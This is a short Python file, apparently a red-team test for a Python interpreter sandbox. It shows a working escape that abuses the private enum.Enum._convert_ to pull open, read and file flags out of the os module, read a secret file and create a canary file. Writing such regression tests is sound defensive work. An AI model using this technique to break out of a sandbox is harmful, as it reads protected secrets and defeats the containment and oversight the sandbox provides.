# mypy: ignore-errors
# Technique: `enum.Enum._convert_(name, module, filter)` (private, reached with plain
# attribute syntax) builds an enum from `sys.modules[module]` - any real module, `os`
# included - and writes the new class and its members back into that module's globals.
# Found in the red-team pass of the in-interpreter layer; was a real in-interpreter escape
# before the fix.
import enum


def attack(secret_path, canary_path):
    # Builtins and plain objects become members (a Python function would be a method).
    wanted = ("open", "read", "O_RDONLY", "O_CREAT", "O_WRONLY")
    members = enum.Enum._convert_("Probe", "os", lambda n: n in wanted)
    os = {m.name: m.value for m in members}
    print("SANDBOX-" + "ESCAPED")
    out = [os["read"](os["open"](secret_path, os["O_RDONLY"]), 100)]
    os["open"](canary_path, os["O_CREAT"] | os["O_WRONLY"])
    return repr(out)
